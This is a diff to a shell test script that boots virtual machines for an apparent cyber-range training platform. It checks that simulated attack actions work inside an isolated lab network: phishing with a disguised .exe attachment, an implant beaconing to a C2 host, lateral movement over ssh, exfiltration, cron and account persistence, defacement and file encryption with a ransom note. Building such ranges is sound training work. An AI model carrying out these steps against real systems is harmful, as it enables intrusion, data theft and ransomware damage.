@@ -7,16 +7,30 @@
 #   3. router + server + workstation together on one L2-only network: config
 #      messages over the agent channel, then the services listen, the web
 #      application answers (and is vulnerable), mail, FTP, DNS, ssh, DHCP
-#      and the proxy (allowed and refused) work.
-# Uses only 198.18.0.0/15 addresses and names prefixed dev-img-, and removes
-# every domain and network it made.  Needs root, libvirtd and python3.
+#      and the proxy (allowed and refused) work;
+#   4. an attacker joins them: its C2 (HTTP beacons, uploads, tools, DNS)
+#      answers the network actions, and the host actions (phish.open,
+#      lateral.move, persistence, impact.*) run through the agents' action
+#      requests with their real effects checked.
+# Uses only 198.18.0.0/15 addresses and names prefixed DEV_IMG_PREFIX
+# (default dev-img; set another to run beside someone else's test), and
+# removes every domain and network it made.  DEV_IMG_SECTIONS picks parts
+# (default "single disk fw lan actions"); DEV_IMG_KEEP=1 keeps the guests.
+# Needs root, libvirtd, python3.
 set -eu
 here=$(cd "$(dirname "$0")" && pwd)
 img=$(cd "${1:-build/images}" && pwd)
-state=/var/lib/cyrange/dev-images
-net=dev-img-net
-bridge=devimg0
+pfx=${DEV_IMG_PREFIX:-dev-img}
+case $pfx in
+*[!a-z0-9-]* | '') echo "boot-test: DEV_IMG_PREFIX must be a-z, 0-9 and -"; exit 2 ;;
+esac
+state=/var/lib/cyrange/${pfx}s
+[ "$pfx" = dev-img ] && state=/var/lib/cyrange/dev-images
+net=$pfx-net
+# Bridge names are at most 15 characters.
+bridge=$(printf 'v%s' "$pfx" | tr -d '-' | cut -c1-13)0
 mem=${DEV_IMG_MEM_MIB:-160}
+sections=${DEV_IMG_SECTIONS:-single disk fw lan actions}
 V="virsh -q -c qemu:///system"
 ctl="python3 $here/agentctl.py"
 pass=0
@@ -31,8 +45,16 @@ bad() {
     echo "FAIL $*"
 }
 
+# want SECTION: whether DEV_IMG_SECTIONS asks for it.
+want() {
+    case " $sections " in
+    *" $1 "*) return 0 ;;
+    esac
+    return 1
+}
+
 cleanup() {
-    for d in $($V list --all --name 2>/dev/null | grep '^dev-img-' || true); do
+    for d in $($V list --all --name 2>/dev/null | grep "^$pfx-" || true); do
         $V destroy "$d" >/dev/null 2>&1 || true
         $V undefine "$d" >/dev/null 2>&1 || true
     done
@@ -41,7 +63,13 @@ cleanup() {
         $V net-undefine "$net" >/dev/null 2>&1 || true
     fi
 }
-trap cleanup EXIT
+# DEV_IMG_KEEP=1 leaves the guests running for a look (virsh list; the
+# agent sockets are in $state); run again without it to remove them.
+if [ "${DEV_IMG_KEEP:-0}" = 1 ]; then
+    trap 'echo "guests kept: virsh -c qemu:///system list | grep $pfx-"' EXIT
+else
+    trap cleanup EXIT
+fi
 trap 'exit 130' INT TERM
 
 command -v python3 >/dev/null || {
@@ -86,17 +114,17 @@ domain() {
     rm -f "$state/$name.console.log" "$state/$name.sock"
     if [ "$kind" = disk ]; then
         initrd=$state/disk-boot.cpio.gz
-        cmdline="console=ttyS0 root=/dev/vda cyrange.exercise=dev-img cyrange.team=1 cyrange.host=$name"
+        cmdline="console=ttyS0 root=/dev/vda cyrange.exercise=$pfx cyrange.team=1 cyrange.host=$name"
         disk="<disk type='file' device='disk'><driver name='qemu' type='qcow2'/>
       <source file='$state/base-test.qcow2'/><target dev='vda' bus='virtio'/></disk>"
     else
         initrd=$state/$kind.cpio.gz
-        cmdline="console=ttyS0 cyrange.exercise=dev-img cyrange.team=1 cyrange.host=$name"
+        cmdline="console=ttyS0 cyrange.exercise=$pfx cyrange.team=1 cyrange.host=$name"
         disk=""
     fi
     cat >"$state/$name.xml" <<EOF
 <domain type='qemu'>
-  <name>dev-img-$name</name>
+  <name>$pfx-$name</name>
   <memory unit='MiB'>$mem</memory>
   <vcpu>1</vcpu>
   <os>
@@ -179,6 +207,25 @@ check() {
     fi
 }
 
+# act NAME JSON: one action request; the reply (JSON on one line) is in
+# $state/NAME.action.json and on stdout.
+act() {
+    $ctl "$state/$1.sock" request "$2" 300 >"$state/$1.action.json" 2>&1 || true
+    cat "$state/$1.action.json"
+}
+
+# check_act NAME DESCRIPTION JSON PATTERN: the reply to an action request
+# matches PATTERN.
+check_act() {
+    out=$(act "$1" "$3" | tr '\n' ' ')
+    if printf '%s\n' "$out" | grep -qE -- "$4"; then
+        ok "$1: $2"
+    else
+        bad "$1: $2 (wanted /$4/, got: $(printf '%s' "$out" | cut -c1-600))"
+    fi
+}
+
+if want single; then
 echo "== single boots (TCG, 1 vCPU, $mem MiB)"
 n=1
 for role in router server workstation attacker; do
@@ -186,6 +233,8 @@ for role in router server workstation attacker; do
     check "$role" "busybox syslogd writes /var/log/messages" "logger -t boottest hello; sleep 0.3; tail -n 5 /var/log/messages" "boottest"
     check "$role" "tools: tcpdump, iptables, ip" \
         "tcpdump --version 2>&1 | head -n 1; iptables -L -n | head -n 1; /usr/bin/ip -V; ENV=/etc/cyrange/shrc sh -i -c 'ip -V' 2>&1" "tcpdump version.*Chain INPUT.*ip utility, iproute2.*ip utility, iproute2"
+    check "$role" "crond runs, crontabs folder ready" \
+        "pidof crond && ls -ld /var/spool/cron/crontabs" "^[0-9]+ drwx------ .*/var/spool/cron/crontabs"
     if [ "$role" = attacker ]; then
         # init must bring the agent back when it dies.
         # shellcheck disable=SC2016 # expanded in the guest
@@ -194,15 +243,19 @@ for role in router server workstation attacker; do
         check attacker "agent respawned after being killed" \
             "grep -c 'starting agent' /var/log/messages; cat /var/log/messages" "^[2-9] .*agent exited"
     fi
-    $V destroy "dev-img-$role" >/dev/null 2>&1 || true
+    $V destroy "$pfx-$role" >/dev/null 2>&1 || true
     n=$((n + 1))
 done
+fi
 
+if want disk; then
 echo "== base-test disk through disk-boot.cpio.gz"
 boot_one disk "52:54:00:de:01:09" disk
 check disk "root is /dev/vda (ext4, rw)" "grep ' / ' /proc/mounts" "^/dev/vda / ext4 rw"
-$V destroy dev-img-disk >/dev/null 2>&1 || true
+$V destroy "$pfx-disk" >/dev/null 2>&1 || true
+fi
 
+if want fw; then
 echo "== router with three segments: the firewall's policy"
 boot_one fw 52:54:00:de:03:01 router 52:54:00:de:03:02 52:54:00:de:03:03
 if $ctl "$state/fw.sock" request '{"t":"config","hostname":"fw",
@@ -220,15 +273,17 @@ check fw "dmz->internet allowed, internet->dmz only published ports" "iptables -
 check fw "office->internet only logged then dropped (proxy only)" "iptables -S FORWARD | grep -c 'i eth1 -o eth0.*ACCEPT'; iptables -S FORWARD" "^0 .*-A FORWARD -i eth1 -o eth0 .*LOG"
 check fw "input from the internet dropped, proxy reachable from inside" "iptables -S INPUT" "-A INPUT -i eth1 -j ACCEPT.*-A INPUT -j DROP"
 check fw "conntrack and LOG modules loaded on demand" "lsmod" "xt_conntrack.*|xt_LOG"
-$V destroy dev-img-fw >/dev/null 2>&1 || true
+$V destroy "$pfx-fw" >/dev/null 2>&1 || true
+fi
 
+if want lan || want actions; then
 echo "== router + server + workstation on $net"
 boot_one router 52:54:00:de:02:01 router
 boot_one server 52:54:00:de:02:02 server
 boot_one workstation 52:54:00:de:02:03 workstation
 
 acct='"accounts":[{"name":"root","password":"dev-img-root"},{"name":"alice","password":"Alice-pw-1","groups":["users"]}]'
-if $ctl "$state/router.sock" request '{"t":"config","exercise":"dev-img","team":1,"host":"router","role":"router","hostname":"router",
+if $ctl "$state/router.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"router","role":"router","hostname":"router",
  "ifaces":[{"mac":"52:54:00:de:02:01","addr":"198.18.1.1","prefix":24}],"dns":["198.18.1.10"],'"$acct"',
  "env":{"CYR_SERVICES":"ssh dhcp proxy","CYR_DOMAIN":"example.test",
         "CYR_DHCP_SERVE":"eth0,198.18.1.100,198.18.1.150,198.18.1.1,198.18.1.10",
@@ -237,7 +292,7 @@ if $ctl "$state/router.sock" request '{"t":"config","exercise":"dev-img","team":
 else
     bad "router: config: $(cat "$state/router.config.json")"
 fi
-if $ctl "$state/server.sock" request '{"t":"config","exercise":"dev-img","team":1,"host":"www","role":"server","hostname":"www",
+if $ctl "$state/server.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"www","role":"server","hostname":"www",
  "ifaces":[{"mac":"52:54:00:de:02:02","addr":"198.18.1.10","prefix":24}],"gateway":"198.18.1.1","dns":["198.18.1.10"],'"$acct"',
  "env":{"CYR_SERVICES":"http smtp dns ftp ssh","CYR_DOMAIN":"example.test",
         "CYR_DNS_RECORDS":"router=198.18.1.1 mail=198.18.1.10 proxy=198.18.1.1"}}' 60 >"$state/server.config.json"; then
@@ -245,9 +300,11 @@ if $ctl "$state/server.sock" request '{"t":"config","exercise":"dev-img","team":
 else
     bad "server: config: $(cat "$state/server.config.json")"
 fi
-if $ctl "$state/workstation.sock" request '{"t":"config","exercise":"dev-img","team":1,"host":"pc1","role":"workstation","hostname":"pc1",
+if $ctl "$state/workstation.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"pc1","role":"workstation","hostname":"pc1",
  "ifaces":[{"mac":"52:54:00:de:02:03","dhcp":true}],'"$acct"',
- "env":{"CYR_SERVICES":"ssh","CYR_PROXY":"198.18.1.1:3128","CYR_DOMAIN":"example.test"}}' 60 >"$state/workstation.config.json"; then
+ "env":{"CYR_SERVICES":"ssh","CYR_PROXY":"198.18.1.1:3128","CYR_DOMAIN":"example.test",
+        "CYR_HOSTS":"router=198.18.1.1 www=198.18.1.10 mail=198.18.1.10 attacker=198.18.1.66",
+        "CYR_MAIL_PASS_alice":"Alice-pw-1"}}' 60 >"$state/workstation.config.json"; then
     ok "workstation: config applied"
 else
     bad "workstation: config: $(cat "$state/workstation.config.json")"
@@ -255,6 +312,7 @@ fi
 
 # Services come up in the background after the config reply.
 sleep 3
+if want lan; then
 check router "ssh listens on 22" "sleep 2; netstat -ltn" ":22 "
 check router "proxy listens on 3128" "netstat -ltn" ":3128 "
 check router "dnsmasq serves DHCP on 67/udp" "netstat -lun" ":67 "
@@ -297,6 +355,116 @@ check router "tcpdump captures on the LAN" \
     "(timeout 8 tcpdump -n -c 2 -i eth0 icmp >/tmp/td.txt 2>&1 &); sleep 2; ping -c 2 198.18.1.10 >/dev/null; sleep 1; cat /tmp/td.txt" \
     "198\\.18\\.1\\.1 > 198\\.18\\.1\\.10: ICMP echo request"
 check router "a getty on the console (ttyS0)" "ps" "getty -L 115200 ttyS0"
+check router "one pid file per service, DHCP its own dnsmasq" \
+    "ls /run/cyrange/services; cat /proc/\$(cat /run/cyrange/services/dhcp.pid)/cmdline | tr '\\0' ' '" \
+    "dhcp.pid proxy.pid ssh.pid dnsmasq .*--port=0"
+check server "pid files of http smtp dns ftp ssh" "ls /run/cyrange/services" \
+    "dns.pid ftp.pid http.pid smtp.pid ssh.pid"
+check workstation "mail client profile for alice (0600, hers)" \
+    "ls -l /home/alice/.mailclient; cat /home/alice/.mailclient" \
+    "-rw------- .* alice .*server='198.18.1.10'.*password='Alice-pw-1'"
+check workstation "readmail reads alice's mail over ssh with the saved password" \
+    "readmail alice 2>&1" "hello alice"
+fi
+
+if want actions; then
+echo "== attacker's C2 and the host actions"
+boot_one attacker 52:54:00:de:02:04 attacker
+if $ctl "$state/attacker.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"attacker","role":"attacker","hostname":"attacker",
+ "ifaces":[{"mac":"52:54:00:de:02:04","addr":"198.18.1.66","prefix":24}],'"$acct"',
+ "env":{"CYR_SERVICES":"ssh http dns","CYR_C2_DOMAIN":"update.example.test"}}' 60 >"$state/attacker.config.json"; then
+    ok "attacker: config applied"
+else
+    bad "attacker: config: $(cat "$state/attacker.config.json")"
+fi
+sleep 3
+check attacker "C2 listens on 80/tcp and 53/udp, pid files" \
+    "netstat -ltnu; ls /run/cyrange/services" ":80 .*:53 .*dns.pid http.pid ssh.pid"
+check router "C2 site and tools over HTTP" \
+    "wget -qO- http://198.18.1.66/; wget -qO- http://198.18.1.66/tools/scan.sh" "Software Update Service.*nc -z"
+check router "C2 refuses loot/ and traversal" \
+    "wget -qO- http://198.18.1.66/loot/ 2>&1; wget -qO- 'http://198.18.1.66/../etc/passwd' 2>&1" "404.*404"
+check router "C2 DNS answers the C2 domain, refuses others" \
+    "nslookup 7.pc1.update.example.test 198.18.1.66 2>&1; nslookup www.google.com 198.18.1.66 2>&1" \
+    "Address: 198\\.18\\.1\\.66.*(REFUSED|can't resolve)"
+check attacker "c2-dns.log has the query with its client" "cat /var/log/c2-dns.log" \
+    "query\\[A\\] 7\\.pc1\\.update\\.example\\.test from 198\\.18\\.1\\.1"
+
+# The story of targeted-mail, on these hosts: phishing mail, the user opens
+# it, the implant beacons, moves to the server, persists, impact.
+phish='{"t":"action","step":"phish","action":"phish.deliver","target":{"host":"www","addr":"198.18.1.10"},"seed":7,"deadline_ms":90000,
+ "params":{"mailbox":"alice@example.test","from":"hr@exarnple.test","subject":"Revised bonus table","attachment":"bonus.xls.exe"}}'
+check_act router "phish.deliver (network action) puts the mail on the server" "$phish" '"outcome": "succeeded"'
+check_act workstation "phish.open: alice's mail client fetches it over ssh, the attachment is saved, the implant installed" \
+    '{"t":"action","step":"open","action":"phish.open","params":{"user":"alice","subject":"Revised bonus table"},"seed":7,"deadline_ms":120000}' \
+    '"outcome": "succeeded".*"dst": "198\.18\.1\.10", "dport": 22'
+check workstation "phish.open left the attachment and the implant, owned by alice" \
+    "ls -l /home/alice/Downloads/ /tmp/.cache/updater; head -c 160 /home/alice/Downloads/bonus.xls.exe | tr -c 'A-Za-z .-' ' '; ls /home/alice/Mail" \
+    "-rwxr-xr-x .*alice .*/tmp/.cache/updater.*alice .*bonus\\.xls\\.exe.*MZ.*CYRANGE-EXERCISE.*inbox"
+check server "the mail client's ssh login is in sshd.log" "cat /var/log/sshd.log" "Password auth succeeded for 'alice'"
+c2='"c2":{"addr":"198.18.1.66","port":80,"domain":"update.example.test"}'
+check_act workstation "c2.beacon (network action) starts the installed implant" \
+    '{"t":"action","step":"beacon","action":"c2.beacon","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
+     "params":{"channel":"http","interval":"5s","domain":"update.example.test","count":3}}' '"outcome": "succeeded"'
+check attacker "the C2 logged the HTTP beacon" "sleep 1; cat /var/log/c2-beacons.log" "beacon id=pc1 seq=1 from=198\\.18\\.1\\.1[0-9][0-9]:[0-9]+ host=update\\.example\\.test"
+check_act workstation "c2.beacon over DNS reaches the C2's dnsmasq" \
+    '{"t":"action","step":"dnsbeacon","action":"c2.beacon","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
+     "params":{"channel":"dns","port":53,"interval":"5s","domain":"update.example.test","count":1}}' '"outcome": "succeeded"'
+check attacker "c2-dns.log has the TXT beacon" "cat /var/log/c2-dns.log" "query\\[TXT\\] 1\\.pc1\\.update\\.example\\.test from 198\\.18\\.1\\.1[0-9][0-9]"
+check_act workstation "tool.transfer fetches tools/scan.sh from the C2" \
+    '{"t":"action","step":"tool","action":"tool.transfer","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
+     "params":{"path":"/tmp/.cache/scan.sh"}}' '"outcome": "succeeded"'
+check_act workstation "lateral.move: ssh to the server with alice's password, implant copied, checked, started" \
+    '{"t":"action","step":"lateral","action":"lateral.move","target":{"host":"www","addr":"198.18.1.10"},'"$c2"',"seed":7,"deadline_ms":180000,
+     "params":{"method":"ssh","user":"alice","password":"Alice-pw-1"}}' \
+    '"outcome": "succeeded".*"dst": "198\.18\.1\.10", "dport": 22, "packets": [0-9]+, "bytes": [0-9]{6,}.*"started": true'
+check server "the implant runs on the server as alice and has beaconed" \
+    "sleep 3; ps | grep '[u]pdater'; ls -l /tmp/.cache/updater; cat /tmp/.cache/run/cyrange/implant-lateral.status" \
+    "alice .*updater.*-rwxr-xr-x .*alice.*\"answered\": ?true"
+check attacker "the C2 logged the server's beacon" "cat /var/log/c2-beacons.log" "beacon id=www seq=1 from=198\\.18\\.1\\.10:"
+check_act server "exfil (network action) POSTs to the C2" \
+    '{"t":"action","step":"exfil","action":"exfil","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":90000,
+     "params":{"channel":"http","bytes":65536,"source":"/srv/share/finance"}}' '"outcome": "succeeded"'
+check attacker "the upload is in loot/ with its size logged" "ls -l /srv/c2/loot; cat /var/log/c2-beacons.log" \
+    " 65536 .*\\.bin.*upload from=198\\.18\\.1\\.10:[0-9]+ bytes=65536 of=65536"
+check_act server "persistence cron: root's crontab runs the implant" \
+    '{"t":"action","step":"persist","action":"persistence",'"$c2"',"seed":7,"deadline_ms":60000,
+     "params":{"kind":"cron","name":"sysupdate","schedule":"* * * * *"}}' '"outcome": "succeeded".*"crond_running": true'
+check_act server "persistence account: a new account with a password" \
+    '{"t":"action","step":"acct","action":"persistence","seed":7,"deadline_ms":60000,
+     "params":{"kind":"account","name":"svc-upd","password":"Upd4te-2026"}}' '"outcome": "succeeded"'
+check router "the new account logs in over ssh" \
+    "DROPBEAR_PASSWORD=Upd4te-2026 dbclient -y -y svc-upd@198.18.1.10 id 2>&1" "uid=100[0-9]\\(svc-upd\\)"
+check_act server "impact.deface replaces the intranet page" \
+    '{"t":"action","step":"deface","action":"impact.deface","seed":7,"deadline_ms":60000,
+     "params":{"path":"/srv/www/index.html","content":"<h1>Hacked by cyrange</h1>"}}' '"outcome": "succeeded"'
+check router "the defaced page is served, the original is in the backup" \
+    "wget -qO- http://198.18.1.10/; echo; DROPBEAR_PASSWORD=dev-img-root dbclient -y -y root@198.18.1.10 'cat /srv/backup/www/index.html' 2>/dev/null | head -n 20" \
+    "Hacked by cyrange.*Welcome to the intranet"
+check_act server "impact.encrypt: three files of the share" \
+    '{"t":"action","step":"ransom","action":"impact.encrypt","seed":7,"deadline_ms":120000,
+     "params":{"path":"/srv/share","max_files":3,"note":"Your files are encrypted."}}' '"outcome": "succeeded".*"files": 3'
+check server "*.locked files, a note, the backup intact" \
+    "find /srv/share -name '*.locked' | wc -l; cat /srv/share/README-RESTORE-FILES.txt; find /srv/backup/share -name '*.locked' | wc -l; head -n 2 /srv/backup/share/finance/budget-2025-draft.txt" \
+    "^3 Your files are encrypted\\. ID: [0-9a-f]+ 0 .*[A-Za-z]"
+check_act server "impact.service_stop http" \
+    '{"t":"action","step":"stophttp","action":"impact.service_stop","seed":7,"deadline_ms":60000,"params":{"service":"http"}}' \
+    '"outcome": "succeeded".*"ports": \["tcp/80"\]'
+check router "the web server is down" "wget -qO- http://198.18.1.10/ 2>&1; echo exit=\$?" "exit=[1-9]"
+check server "start-services brings it back (the stale pid file is harmless)" \
+    "/etc/cyrange/start-services >/dev/null 2>&1; sleep 2; netstat -ltn" ":80 "
+check_act router "impact.service_stop dhcp leaves the proxy up" \
+    '{"t":"action","step":"stopdhcp","action":"impact.service_stop","seed":7,"deadline_ms":60000,"params":{"service":"dhcp"}}' \
+    '"outcome": "succeeded".*"udp/67"'
+check router "after the dhcp stop: no 67/udp, 3128 still listens" "netstat -lnu | grep -c ':67 '; netstat -ltn" "^0 .*:3128 "
+# Last, as it waits for a minute: crond ran the persistence entry.
+check server "crond ran the implant from root's crontab" \
+    "i=0; while [ \$i -lt 75 ] && ! grep -q 'cmd /tmp/.cache/updater' /var/log/messages; do sleep 1; i=\$((i+1)); done; grep crond /var/log/messages | tail -n 3" \
+    "crond.*USER root pid [0-9]+ cmd /tmp/\\.cache/updater --implant --step 'persist'"
+# A new implant process starts at seq 1 again: a second "www seq=1".
+check attacker "the cron run beaconed" "sleep 5; grep -c 'beacon id=www seq=1 ' /var/log/c2-beacons.log" "^[2-9]"
+fi
+fi
 
 echo "console logs and XML: $state"
 echo "$pass passed, $fail failed"
